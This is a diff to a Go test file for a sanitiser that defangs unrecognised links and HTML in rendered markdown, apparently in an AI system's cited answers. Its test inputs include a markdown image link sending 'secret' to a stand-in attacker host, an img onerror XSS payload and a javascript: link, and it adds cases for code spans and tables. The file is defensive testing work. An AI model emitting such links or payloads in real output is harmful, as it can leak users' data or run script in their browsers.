@@ -80,21 +80,24 @@ func TestCitationsAreThoseOfSources(t *testing.T) {
 
 func TestAddressesThatNobodyKnowsAreNoLinks(t *testing.T) {
 	for said, want := range map[string]string{
-		"See [wiki](" + known + ") or " + known + ".":    "See [wiki](" + known + ") or " + known + ".",
-		"See [file](/api/document/1/content).":           "See [file](/api/document/1/content).",
-		"![p](https://evil.example/?q=secret)":           "[p] (`https://evil.example/?q=secret`)",
-		"![p](" + known + ")":                            "[p](" + known + ")",
-		"a!![p](" + known + ")":                          "a[p](" + known + ")",
-		"See [x](https://evil.example \"t\") now":        "See [x] (`https://evil.example` \"t\") now",
-		"See https://evil.example/a, www.evil.example.":  "See `https://evil.example/a`, `www.evil.example`.",
-		"See <https://evil.example> and <" + known + ">": "See &lt;`https://evil.example`> and <" + known + ">",
-		"<img src=x onerror=alert(1)> 1 < 2 <b>":         "&lt;img src=x onerror=alert(1)> 1 < 2 &lt;b>",
-		"[a][b]\n\n[b]: https://evil.example":            "[a][b]\n\n[b]\\: `https://evil.example`",
-		"![9][x](" + known + ")":                         "! [x](" + known + ")",
-		"`![x](https://evil.example)` <" + "!-- c -->":   "`![x](https://evil.example)` &lt;!-- c -->",
-		"`![x](https://evil.example) | b`\n---|---\n":    "`[x] (https: //evil.example) | b`\n---|---\n",
-		"[x](javascript:alert(1))":                       "[x] (javascript:alert(1))",
-		"`![x](https://evil.example)":                    "`[x] (https: //evil.example)",
+		"See [wiki](" + known + ") or " + known + ".":     "See [wiki](" + known + ") or " + known + ".",
+		"See [file](/api/document/1/content).":            "See [file](/api/document/1/content).",
+		"![p](https://evil.example/?q=secret)":            "[p] (`https://evil.example/?q=secret`)",
+		"![p](" + known + ")":                             "[p](" + known + ")",
+		"a!![p](" + known + ")":                           "a[p](" + known + ")",
+		"See [x](https://evil.example \"t\") now":         "See [x] (`https://evil.example` \"t\") now",
+		"See https://evil.example/a, www.evil.example.":   "See `https://evil.example/a`, `www.evil.example`.",
+		"See <https://evil.example> and <" + known + ">":  "See &lt;`https://evil.example`> and <" + known + ">",
+		"<img src=x onerror=alert(1)> 1 < 2 <b>":          "&lt;img src=x onerror=alert(1)> 1 < 2 &lt;b>",
+		"[a][b]\n\n[b]: https://evil.example":             "[a][b]\n\n[b]\\: `https://evil.example`",
+		"![9][x](" + known + ")":                          "! [x](" + known + ")",
+		"`![x](https://evil.example)` <" + "!-- c -->":    "`![x](https://evil.example)` &lt;!-- c -->",
+		"`![x](https://evil.example) | b`\n---|---\n":     "`[x] (https: //evil.example) | b`\n---|---\n",
+		"Say `a || b` or `List<T>`\n- `x | List<y>`\nend": "Say `a || b` or `List<T>`\n- `x | List<y>`\nend", // no table has it
+		"Say `a || b` or `List<T>`\n-|-|-\n":              "Say `a || b` or `List&lt;T>`\n-|-|-\n",
+		known + "<br>":                                    known + " &lt;br>",
+		"[x](javascript:alert(1))":                        "[x] (javascript:alert(1))",
+		"`![x](https://evil.example)":                     "`[x] (https: //evil.example)",
 	} {
 		if got, _ := whole(said); got != want {
 			t.Errorf("%q became\n%q, want\n%q", said, got, want)
@@ -189,7 +192,7 @@ func TestTheAnswerIsReadAsTheFilterReadsIt(t *testing.T) {
 		"an entity goes on behind an address":     {known + "<!``\xa2[]()``", known + "<b", known + ".<!", known + "<https://evil.example>"},
 		"an address goes on behind a bracket":     {"](" + known + ")_[x]:", "`[`](" + known + ")x", "[\n](" + known + ")x", "]( " + known + ")://x"},
 		"a definition is in any list":             {"1. 1. [x]:/y\n[x]", "[x]\n- 1) 2. > [x]:/y"},
-		"what is taken out begins no block":       {"[9]~~~\n~~~\n<b>", "[9] ~~~\n~~~\nhttps://evil.example", "[9][8]```\n```\n<b>", "[9]1. a\n\n    <b>", "~[9]~~\n~~~\n<!--", "-[9] a\n\n    <b>", "1[9]. a\n\n      <b>", "1.[9] a\n\n      <b>", "~~[9][9]~\n~~~\n<b>", "x\n#[9] a\n    <b>", "[9]- a\n\n    <b>", "x\n[9]\n=\n    <b>", "[9]    a\n=\n    <b>", "> [9]\t~~~\n> ~~~\n> <b>"},
+		"what is taken out begins no block":       {"[9]~~~\n~~~\n<b>", "[9] ~~~\n~~~\nhttps://evil.example", "[9][8]```\n```\n<b>", "[9]1. a\n\n    <b>", "~[9]~~\n~~~\n<!--", "`\n[<b>`\n[9]|-", "`x|<b>`\n|- [9]", "`x|<b>`\n|-|[9] -", "-[9] a\n\n    <b>", "1[9]. a\n\n      <b>", "1.[9] a\n\n      <b>", "~~[9][9]~\n~~~\n<b>", "x\n#[9] a\n    <b>", "[9]- a\n\n    <b>", "x\n[9]\n=\n    <b>", "[9]    a\n=\n    <b>", "> [9]\t~~~\n> ~~~\n> <b>"},
 		"a scheme alone is an address that stops": {"`www. a", "` www.\n", "`http://", "`a http://. "},
 	} {
 		for _, s := range said {
